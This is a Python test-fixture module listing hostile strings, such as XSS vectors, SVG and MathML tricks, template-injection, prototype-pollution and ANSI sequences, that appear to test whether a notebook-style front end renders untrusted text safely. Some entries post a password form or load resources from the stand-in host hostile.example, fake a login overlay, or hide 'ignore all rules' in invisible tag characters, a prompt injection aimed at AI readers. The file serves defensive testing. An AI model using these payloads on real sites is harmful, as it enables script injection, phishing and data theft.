"""Hostile texts: each tries to run, fetch, cover, hide or break something when a page shows it.

What acts sets `window.hostile` or asks the host `hostile.example` for something, both of which the tests watch.
"""

from __future__ import annotations

from typing import Final

HOST: Final = "hostile.example"
ACT: Final = "window.hostile=(window.hostile||0)+1"
_LINK: Final = f"https://{HOST}"

PAYLOADS: Final[dict[str, str]] = {
    # elements and handlers that run
    "script": f"<script>{ACT}</script>",
    "script from elsewhere": f'<script src="{_LINK}/a.js"></script>',
    "script after the end of what surrounds it": f"</td></table></div></details></style></title></textarea><script>{ACT}</script>",
    "script in mixed case": f"<ScRiPt\t>{ACT}</sCrIpT >",
    "script that is cut in two": f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    "module": f'<script type="module">{ACT}</script>',
    "image with a handler": f'<img src=x onerror="{ACT}">',
    "image with a handler, without quotes or spaces": f"<img/src=x/onerror={ACT}>",
    "image that begins in an attribute": f"\"'><img src=x onerror={ACT}>",
    "attribute in double quotes": f'" onmouseover="{ACT}" autofocus onfocus="{ACT}" x="',
    "attribute in single quotes": f"' onmouseover='{ACT}' autofocus onfocus='{ACT}' x='",
    "attribute in backticks": f"` onerror={ACT} `",
    "body": f'<body onload="{ACT}" onpageshow="{ACT}">',
    "details": f"<details open ontoggle={ACT}>open</details>",
    "video": f'<video autoplay src=x onerror="{ACT}"><source onerror="{ACT}"></video>',
    "animation": f"<style>@keyframes a{{}}</style><b style=animation-name:a onanimationstart={ACT}>a</b>",
    "custom element": f"<x-y tabindex=1 autofocus onfocus={ACT}>z</x-y>",
    "frame": f'<iframe src="javascript:parent.{ACT}"></iframe>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    "object": f'<object data="{_LINK}/a.swf"></object><embed src="{_LINK}/b.swf">',
    "template": f"<template><script>{ACT}</script></template>",
    "comment": f"<!--><img src=x onerror={ACT}>-->",
    "character data": f"<![CDATA[<img src=x onerror={ACT}>]]>",
    "nul in a tag": f"<scr\0ipt>{ACT}</scr\0ipt><img \0src=x onerror={ACT}>",
    "already escaped": f"&lt;img src=x onerror={ACT}&gt; &amp;lt; &#60;b&#62; &#x3c;i&#x3e;",
    "overlong less-than": f"\ufe64script\ufe65{ACT}\ufe64/script\ufe65 \uff1cimg src=x onerror={ACT}\uff1e",
    # svg and mathml
    "svg": f'<svg onload="{ACT}"><script>{ACT}</script></svg>',
    "svg that animates": f'<svg><animate onbegin="{ACT}" attributeName=x dur=1s></svg>',
    "svg that refers": f'<svg><use href="{_LINK}/a.svg#a"/><image href="{_LINK}/b.png"/></svg>',
    "svg with foreign content": f"<svg><foreignObject><img src=x onerror={ACT}></foreignObject></svg>",
    "svg covering all": '<svg style="position:fixed;inset:0;z-index:9999" width="100%" height="100%"><rect width="100%" height="100%"/></svg>',
    "mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{ACT}"></style></mglyph></table></mtext></math>',
    "mathml link": f'<math href="javascript:{ACT}"><mi>click</mi></math>',
    # links and loads
    "javascript link": f'<a href="javascript:{ACT}">click</a> [click](javascript:{ACT})',
    "data link": f'<a href="data:text/html,<script>{ACT}</script>">click</a>',
    "bare link": f"{_LINK}/?secret=1 www.{HOST} mailto:a@{HOST}",
    "image": f'<img src="{_LINK}/a.png" srcset="{_LINK}/b.png 2x"><picture><source srcset="{_LINK}/c.png"></picture>',
    "style sheet": f'<link rel="stylesheet" href="{_LINK}/a.css"><link rel="preload" as="image" href="{_LINK}/b.png">',
    "base": f'<base href="{_LINK}/" target="_blank">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={_LINK}/">',
    "form": f'<form action="{_LINK}/" id="f"><input name="password" autofocus></form><button form="f" formaction="{_LINK}/">send</button>',
    # styles
    "css": f"<style>body{{display:none}}.adknb{{background:url({_LINK}/a.png)}}</style>",
    "css import": f"<style>@import url({_LINK}/a.css);</style>",
    "css out of an attribute": f'red;position:fixed;inset:0;background:url({_LINK}/a.png)"',
    "overlay": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red">Log in again</div>',
    "classes of the page": '<div class="jp-Dialog adknb-box" id="main" data-commandlinker-command="notebook:run-all-cells">Log in</div>',
    # other languages that a front end may read
    "markdown": f"# heading\n**bold** ![image]({_LINK}/a.png) [link]({_LINK}/) <{_LINK}/>\n\n```js\ncode\n```",
    "markdown table": "| a | b |\n|---|---|\n| <b>1</b> | 2 |",
    "latex": r"$\href{javascript:window.hostile=1}{x}$ \(\require{html}\style{position:fixed}{y}\) $$\frac{1}{2}$$",
    "latex environment": r"\begin{equation}\unicode{x41}\def\a{\a}\a\end{equation} \[ \int_0^1 x \]",
    "templates": "{{7*7}} {% raw %} ${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('window.hostile=1')()}}",
    "format": "{0.__class__} %s %(a)s %n {triage?!} $HOME `id`",
    "json": '{"__proto__": {"hostile": 1}, "a": "</script><script>' + ACT + '</script>"}',
    # characters
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;https://" + HOST + "\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x1b[H \x9b31m",
    "control": "a\0b\x07c\x08d\x0ce\x7ff\x85g",
    "carriage return": "all is well\rhidden\r\nnext",
    "bidi": "user\u202etxt.exe\u2066 \u2067abc\u2069 \u200fדוד\u200e",
    "right to left": "שלום עולם: 123 (abc) مرحبا بالعالم",
    "zero width": "pay\u200bpal\u200c \u2060x\ufeff \u00adsoft\u034f",
    "tags": "safe" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "separators": "one\u2028two\u2029three\u0085four",
    "surrogates": "a\ud800b\udfffc\ud83d",
    "noncharacters": "\uffff\ufffe\ufdd0\U0010ffff",
    "stacked marks": "Z" + "\u0335\u0321\u0308\u0301" * 40 + "algo",
    "wide": "\ufdfd" * 30 + "𒐫" * 30 + "꧅" * 30,
    "one long word": "w" * 5_000,
    "many lines": "line\n" * 300,
    "many spaces": "much space" + " " * 3_000 + "b" + "\t" * 300 + "c",
    "nothing": " \n\t ",
}

HUGE: Final = 10_000_000
"""Characters of the largest text."""


def huge(payload: str) -> str:
    """The payload again and again, to ten million characters."""
    return (payload * (HUGE // len(payload) + 1))[:HUGE]
